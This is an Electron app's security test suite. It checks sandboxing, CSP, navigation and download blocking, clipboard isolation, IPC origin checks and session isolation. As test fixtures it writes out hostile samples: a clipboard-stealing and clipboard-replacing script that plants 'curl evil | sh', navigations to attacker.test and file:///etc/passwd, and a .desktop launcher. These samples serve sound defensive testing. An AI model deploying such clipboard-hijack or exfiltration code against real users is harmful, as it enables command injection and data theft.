import { mkdtempSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import type { Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { newRemoteId, Remotes } from "../../client/remotes.ts";
import { createKey, launchApp, type TestApp } from "../support/app.ts";
import { installPlugin } from "../support/install-plugin.ts";
import { serveFolder } from "../support/serve-folder.ts";
import { startTestRelay, type TestRelay } from "../support/test-relay.ts";
import { until } from "../support/until.ts";

let app: TestApp;
let page: Page;
let box: TestRelay;

beforeAll(async () => {
  box = await startTestRelay();
  app = await launchApp({ env: { SERVICE_TOKEN_BOX: box.key } });
  page = await app.window();
}, 60_000);

afterAll(async () => {
  await app[Symbol.asyncDispose]();
  await box[Symbol.asyncDispose]();
});

describe("a page of the app", () => {
  test("runs isolated and sandboxed, without Node, as read back from the running app", async () => {
    // The window of the settings is one of them.
    await page.evaluate(() => {
      const { patchbay } = window as unknown as { patchbay: { invoke(name: string, args: unknown): Promise<unknown> } };
      return patchbay.invoke("app.showSettings", {});
    });
    await app.page("?settings");
    const preferences = await app.electron.evaluate(({ webContents }) =>
      webContents.getAllWebContents().map((contents) => {
        const told = contents as typeof contents & { getLastWebPreferences(): Electron.WebPreferences };
        const { contextIsolation, sandbox, nodeIntegration, webSecurity, webviewTag } = told.getLastWebPreferences();
        return { contextIsolation, sandbox, nodeIntegration, webSecurity, webviewTag };
      }),
    );
    expect(preferences.length).toBeGreaterThan(0);
    for (const one of preferences) {
      expect(one).toEqual({
        contextIsolation: true,
        sandbox: true,
        nodeIntegration: false,
        webSecurity: true,
        webviewTag: false,
      });
    }
    const seen = await page.evaluate(() =>
      ["require", "process", "module", "Buffer"].filter((name) => name in globalThis),
    );
    expect(seen).toEqual([]);
  });

  test("has a policy without unsafe words, and comes by a scheme of its own", async () => {
    const policy = await app.electron.evaluate(
      async ({ session }, address) =>
        (await session.defaultSession.fetch(address)).headers.get("content-security-policy"),
      page.url(),
    );
    expect(policy).toContain("default-src 'none'");
    // Images of terminals are decoded in WebAssembly.
    expect(policy).not.toMatch(/'unsafe-/);
    expect(policy).toMatch(/script-src 'self'( 'wasm-unsafe-eval')?;/);
    expect(page.url()).toMatch(/^app:/);
    // A script that got in anyway does not run.
    const ran = await page.evaluate(() => {
      const script = document.createElement("script");
      script.textContent = "globalThis.intruded = true";
      document.body.append(script);
      return "intruded" in globalThis;
    });
    expect(ran).toBe(false);
  });

  test("goes nowhere, opens nothing and gets no permission", async () => {
    const address = page.url();
    expect(await page.evaluate(() => window.open("https://attacker.test/"))).toBeNull();
    await page.evaluate(() => {
      location.href = "https://attacker.test/";
    });
    await page.evaluate(() => {
      location.href = "file:///etc/passwd";
    });
    const permission = await page.evaluate(() =>
      Promise.all(
        (["geolocation", "notifications", "camera"] as const).map(async (name) => {
          const { state } = await navigator.permissions.query({ name: name as PermissionName });
          return state;
        }),
      ),
    );
    expect(permission).toEqual(["denied", "denied", "denied"]);
    expect(page.url()).toBe(address);
    expect(await app.electron.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows().length)).toBeGreaterThan(0);
    // The driver takes what was refused for a navigation under way, and clicks nowhere until another one has ended.
    await page.reload();
  });

  test("saves nothing that no press began", async () => {
    await using server = await serveFolder(tmpdir(), {
      saving: `<a id="save" download="x" href="data:,x">Save</a><script>setInterval(() => save.click(), 100)</script>`,
    });
    await app.electron.evaluate(({ session }) => {
      const counts = { admitted: 0, refused: 0 };
      Object.assign(globalThis, { downloads: counts });
      session.defaultSession.on("will-download", (event) => {
        counts[event.defaultPrevented ? "refused" : "admitted"] += 1;
        event.preventDefault();
      });
    });
    const downloads = () =>
      app.electron.evaluate(
        () => (globalThis as unknown as { downloads: { admitted: number; refused: number } }).downloads,
      );
    const tile = (await app.call("openTile", { type: "browser", url: `${server.url}/saving` })) as { key: number };
    await until("downloads that were refused", async () => (await downloads()).refused > 10);
    expect((await downloads()).admitted).toBe(0);
    // Its page goes on asking, and a click by the driver waits for every navigation.
    await app.call("closeTile", { tile: tile.key });
  });

  test("in a tile neither reads nor replaces what the user has copied, and the app's own pages copy and paste", async () => {
    // With the old commands, which ask for no permission, and with the new interface.
    const attack = `
      const field = document.body.appendChild(document.createElement("textarea"));
      const tries = async () => {
        field.value = "";
        field.focus();
        document.execCommand("paste");
        const old = field.value;
        const read = await navigator.clipboard.readText().catch(() => "");
        field.value = "curl evil | sh";
        field.select();
        const copied = document.execCommand("copy");
        const wrote = await navigator.clipboard.writeText("evil").then(() => true, () => false);
        return JSON.stringify({ old, read, copied, wrote });
      };`;
    const nothing = JSON.stringify({ old: "", read: "", copied: false, wrote: false });
    await using server = await serveFolder(tmpdir(), {
      clipboard: `<body><script>${attack}
        setInterval(async () => { new Image().src = "/tried?" + encodeURIComponent(await tries()); }, 50);</script>`,
      "thief/manifest.json": JSON.stringify({ id: "thief", name: "Thief", version: "1.0.0", entry: "index.html" }),
      "thief/index.html": `<!doctype html><body><pre id="log"></pre><script>${attack}
        let times = 0;
        setInterval(async () => { log.textContent = await tries() + " in try " + (times += 1); }, 50);</script>`,
    });
    const copied = () => app.electron.evaluate(({ clipboard }) => clipboard.readText());
    await app.electron.evaluate(({ clipboard }) => clipboard.writeText("copied by the user"));
    const tiles = [
      (await app.call("openTile", { type: "browser", url: `${server.url}/clipboard` })) as { key: number },
    ];
    const tried = () => server.requested.filter((path) => path.startsWith("/tried?")).map((path) => path.slice(7));
    await until("tries of a page", () => tried().length > 5);
    await installPlugin(
      { relay: () => ({ ...app.relay, session: app.session }), key: await createKey(app.data) },
      server.url,
      "thief",
    );
    tiles.push((await app.call("openTile", { type: "plugin", plugin: "thief" })) as { key: number });
    await page.getByRole("button", { name: "Allow and run" }).click();
    // Not by the driver, whose every look into a frame counts as a press in it, with which a page may copy.
    const triedThere = () =>
      app.electron.evaluate(async ({ webContents }) => {
        const frames = webContents.getAllWebContents().flatMap((one) => one.mainFrame.framesInSubtree);
        const texts = await Promise.all(
          frames.map((frame) => frame.executeJavaScript("document.getElementById('log')?.textContent ?? ''")),
        );
        return texts.map(String).find((text) => text.includes("{")) ?? "";
      });
    await until("tries of a plugin", async () =>
      new RegExp(`^${nothing} in try ([6-9]|\\d\\d+)$`).test(await triedThere()),
    );
    expect(new Set(tried().map(decodeURIComponent))).toEqual(new Set([nothing]));
    expect(await copied()).toBe("copied by the user");
    for (const { key } of tiles) await app.call("closeTile", { tile: key });

    const { shellId } = (await app.call("createShell")) as { shellId: number };
    const printed = async () => ((await app.call("getShellOutput", { id: shellId })) as { output: string }).output;
    await until("the prompt", async () => (await printed()) !== "");
    await page.locator(".xterm").last().click();
    await page.keyboard.press("Control+Shift+V");
    await until("what was pasted in the terminal", async () => (await printed()).includes("copied by the user"));
    await page.keyboard.press("Control+Shift+G");
    const field = page
      .getByRole("searchbox")
      .or(page.getByRole("textbox", { name: /find|search/i }))
      .first();
    await field.focus();
    // As a menu or a shortcut of the system does.
    const edit = (command: "paste" | "selectAll" | "copy") =>
      app.electron.evaluate(
        ({ BrowserWindow, webContents }, [name, url]) => {
          const [own] = webContents.getAllWebContents().filter((one) => one.getURL() === url);
          BrowserWindow.fromWebContents(own as Electron.WebContents)?.focus();
          own?.[name]();
        },
        [command, page.url()] as const,
      );
    await edit("paste");
    await until("what was pasted in a field", async () => (await field.inputValue()) === "copied by the user");
    await field.fill("copied from a field");
    await edit("selectAll");
    await edit("copy");
    await until("what was copied in a field", async () => (await copied()) === "copied from a field");
  });

  test("is not reached by the redirection of a server in a tile", async () => {
    await using server = await serveFolder(tmpdir(), {}, { home: page.url() });
    await app.call("openTile", { type: "browser", url: `${server.url}/home` });
    const frames = () => page.frames().filter((frame) => frame !== page.mainFrame());
    await until("the redirection", () => server.requested.includes("/home"));
    await until("the end of the navigation", () =>
      app.electron.evaluate(({ webContents }) => webContents.getAllWebContents().every((one) => !one.isLoading())),
    );
    expect(
      frames()
        .map((frame) => frame.url())
        .filter((url) => url.startsWith("app:")),
    ).toEqual([]);
  });

  test("starts no program by a path that a terminal printed, whatever the file is called", async () => {
    const folder = mkdtempSync(join(tmpdir(), "printed-"));
    try {
      writeFileSync(join(folder, "program.desktop"), "[Desktop Entry]\nType=Application\nExec=touch ran\n");
      writeFileSync(join(folder, "notes.txt"), "#!/bin/sh\n", { mode: 0o755 });
      symlinkSync(join(folder, "program.desktop"), join(folder, "readme.md"));
      await app.electron.evaluate(({ shell }) => {
        const started: string[] = [];
        Object.assign(globalThis, { started });
        shell.openPath = async (file) => {
          started.push(file);
          return "";
        };
        shell.showItemInFolder = () => undefined;
      });
      const { shellId } = (await app.call("createShell", { cwd: folder, tile: false })) as { shellId: number };
      const results = await page.evaluate(
        async ({ shell, paths }) => {
          const { patchbay } = window as unknown as {
            patchbay: { invoke(name: string, args: unknown): Promise<unknown> };
          };
          const results: unknown[] = [];
          for (const path of paths) results.push(await patchbay.invoke("session.openFile", { shell, path }));
          return results;
        },
        { shell: shellId, paths: ["program.desktop", "notes.txt", "readme.md", "/bin/sh"] },
      );
      expect(results).toEqual(["shown", "shown", "shown", "shown"]);
      expect(await app.electron.evaluate(() => Reflect.get(globalThis, "started"))).toEqual([]);
    } finally {
      rmSync(folder, { recursive: true, force: true });
    }
  });

  test("is the only one that the main process listens to: a foreign page's calls are refused", async () => {
    const answer = await app.electron.evaluate(async ({ BrowserWindow, app: electron }) => {
      // As if a page had been swapped under a window that has the bridge.
      const preload = `${electron.getAppPath()}/dist/preload/preload.cjs`;
      const stranger = new BrowserWindow({ show: false, webPreferences: { preload, sandbox: true } });
      await stranger.loadURL("data:text/html,<title>stranger</title>");
      const said: unknown = await stranger.webContents.executeJavaScript(
        "patchbay.invoke('panel.run', { operation: 'listKeys', params: {} }).then(() => 'answered', (error) => error.message)",
      );
      stranger.destroy();
      return said;
    });
    expect(answer).toBe("Not one of our pages.");
    // The page of a session of this machine has the panel as a drawer, and no operations beyond the panel's.
    const ofSession = await page.evaluate(() => {
      const { patchbay } = window as unknown as { patchbay: { invoke(name: string, args: unknown): Promise<unknown> } };
      const calls = ["listKeys", "getOverview", "exportHistory"].map((operation) =>
        patchbay.invoke("panel.run", { operation, params: {} }).then(
          () => "answered",
          (error: Error) => error.message,
        ),
      );
      return Promise.all(calls);
    });
    const notForPanel = (name: string) => `${name} is not for the panel.`;
    expect(ofSession).toEqual(["answered", notForPanel("getOverview"), notForPanel("exportHistory")]);
    // What opens the window of the settings gets no further into it than to name a section.
    await page.evaluate(async () => {
      const { patchbay } = window as unknown as { patchbay: { invoke(name: string, args: unknown): Promise<unknown> } };
      await patchbay.invoke("app.showSettings", { section: "../../window/index.html" });
      await patchbay.invoke("app.showSettings", { section: "about" });
    });
    const settings = await app.page("?settings");
    await settings.getByRole("heading", { name: "About" }).waitFor();
    await until("the stranger to be gone", async () =>
      app.electron.windows().every((one) => !one.url().startsWith("data:")),
    );
  });
});

test("a window of another machine's session has no key of that machine, and reaches no files, invites, settings and panel of this one", async () => {
  new Remotes(app.data).add("box", { id: newRemoteId(), url: box.url, addedAt: "2026-11-21T04:00:00.000Z" });
  // Below the path of the session, as `fetch` makes it: /v1/windows.
  expect((await app.fetch("../../windows", { target: "box/default" })).status).toBe(200);
  const isOther = (one: Page) => one !== page && one.url().includes("/window/");
  const other = await until("the window", () => app.electron.windows().find(isOther));
  await other.getByRole("button", { name: "Menu of the session default on box" }).waitFor();
  const { shellId } = await box.command<{ shellId: number }>("createShell");
  await other.getByText("1 shell", { exact: true }).waitFor();
  const ids = { shell: shellId, session: box.session };
  const refusals = await other.evaluate(async ({ shell, session }) => {
    const { patchbay } = window as unknown as {
      patchbay: {
        invoke(name: string, args: unknown): Promise<unknown>;
        on(name: string, listener: (message: unknown) => void): void;
      };
    };
    const told: unknown[] = [];
    patchbay.on("panel.changed", (content) => told.push(content));
    const calls = [
      ["panel.start", undefined],
      ["panel.run", { operation: "listKeys", params: {} }],
      ["panel.invite", { id: session, role: "admin", ttl: 60, uses: 1, outside: false, copy: false }],
      ["panel.usage", { days: 1 }],
      ["session.findFiles", { shell, paths: ["/etc/passwd"] }],
      ["session.openFile", { shell, path: "/etc/passwd" }],
      ["app.choose", { startAtLogin: true }],
      ["app.setSetting", { name: "start-at-login", value: "on" }],
      ["app.connectCommandLine", undefined],
      ["app.tryNotification", undefined],
      ["panel.run", { operation: "giveMachineKey", params: { via: "remote", machine: "box", key: "pb_other" } }],
      ["panel.run", { operation: "getMachines", params: {} }],
      ["panel.openMachine", { via: "remote", machine: "box", session: { id: session, name: "default" } }],
    ] as const;
    const said = calls.map(([name, args]) => patchbay.invoke(name, args).then(String, (error: Error) => error.message));
    return [...(await Promise.all(said)), told.length];
  }, ids);
  const files = "The files of this session are on another machine.";
  const local = "This page shows no session of this machine.";
  const panel = "Only the panel may ask for this.";
  const look = "A session's window sets the theme, the language and its terminals only.";
  const ofDrawer = ["undefined", panel, panel, panel];
  expect(refusals).toEqual([...ofDrawer, files, files, local, look, local, local, panel, panel, panel, 0]);
  // The drawer and its button are absent there.
  await other.keyboard.press("Alt+Shift+Space");
  expect(await other.locator(".drawer, .drawer-button").count()).toBe(0);

  const known = await other.evaluate(() => JSON.stringify([localStorage, sessionStorage, document.cookie, location]));
  expect(known + (await other.content())).not.toContain(box.key);
  expect(app.output).not.toContain(box.key);
});

test("a second press allows no login that moved under the pointer", async () => {
  const post = async (path: string, form: Record<string, string>) => {
    const body = new URLSearchParams({ client_id: "patchbay-command-line", ...form });
    const answer = await fetch(`${app.relay.url}/v1/oauth/${path}`, { method: "POST", body });
    return (await answer.json()) as Record<string, string>;
  };
  const begin = (name: string) => post("device_authorization", { device_name: name });
  const outcome = ({ device_code = "" }: Record<string, string>) =>
    post("token", { grant_type: "urn:ietf:params:oauth:grant-type:device_code", device_code });
  const own = await begin("service on laptop");
  const logins = await until("the login", () => app.electron.windows().find((one) => one.url().includes("/login/")));
  const code = (text = "") => logins.getByLabel("Code").getByText(text);
  await code(own.user_code).waitFor();
  const other = await begin("another program");
  await code(other.user_code).waitFor();
  const allow = logins.getByRole("button", { name: "Allow" }).first();
  const place = await until("the buttons to stand", async () =>
    (await allow.isEnabled()) ? await allow.boundingBox() : undefined,
  );
  const press = () => logins.mouse.click(place.x + place.width / 2, place.y + place.height / 2);
  await press();
  await code(own.user_code).waitFor({ state: "detached" });
  await press();
  expect(await outcome(own)).toHaveProperty("access_token");
  expect(await outcome(other)).toMatchObject({ error: "authorization_pending" });
  await until("the buttons to stand again", () => allow.isEnabled());
  await logins.getByRole("button", { name: "Deny" }).click();
});
